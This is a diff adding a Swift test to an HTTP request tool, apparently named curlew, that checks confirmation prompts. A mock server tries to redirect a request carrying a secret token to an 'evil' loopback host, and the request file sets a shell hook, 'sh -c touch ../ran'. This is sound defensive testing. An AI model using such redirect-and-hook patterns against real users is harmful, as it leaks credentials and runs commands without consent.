@@ -173,6 +173,39 @@ import Testing
         #expect(run.end == .exit(2) && evil.take().isEmpty, "\(run.text)\(run.errors)")
     }
 
+    /// Who writes the collection calls what he likes a secret: what a yes is about is shown all the same.
+    @Test func `a captured secret hides nothing of a question, nor of a refusal`() async throws {
+        let first = try LoopbackServer { [port = evil.port] _ in
+            let body = "{\"v\": \"touch ../ran\", \"h\": \"127.0.0.1:\(port)\"}"
+            return [
+                .readHead,
+                .send("HTTP/1.1 200 OK\r\nContent-Length: \(body.utf8.count)\r\nConnection: close\r\n\r\n\(body)"),
+                .shutdown,
+            ]
+        }
+        try folder.lay([
+            "environments/e.yaml": "secrets: {token: {process: SECRET_KEY}}\n",
+            "login.yaml": "request: GET \(first.url)/\ncapture: {v: !secret $.v, h: !secret $.h}\n",
+            "use.yaml":
+                "request: GET http://{{h}}/x\nheaders: {X-V: \"{{v}}\", X-T: \"{{token}}\"}\nhooks: {before: [sh, -c, touch ../ran]}\n",
+        ])
+        #expect(try await folder.curlew("send", "login").end == .exit(0))
+        let refused = try await folder.curlew("send", "use")
+        #expect(refused.end == .exit(2) && !refused.errors.contains("******"), "\(refused.errors)")
+        let terminal = try PseudoTerminal(
+            running: BuiltProgram.path, ["send", "use"], environment: folder.environment,
+            folder: folder.home.path("api"), size: Size(width: 200, height: 40))
+        try await terminal.waitForQuestion(1, "SECRET_KEY")
+        terminal.type("y")
+        terminal.press("Enter")
+        try await terminal.waitForQuestion(2, "sh -c touch ../ran", "The request goes to \(evilBase).")
+        #expect(!folder.isThere("ran") && evil.take().isEmpty)
+        terminal.type("n")
+        terminal.press("Enter")
+        #expect(try await terminal.waitForEnd() == .exit(2))
+        #expect(!folder.isThere("ran") && evil.take().isEmpty)
+    }
+
     /// One run has one jar; and so has a request with `-b`.
     @Test func `cookies go through the proxy of a file after a yes alone`() async throws {
         let login = try LoopbackServer { _ in
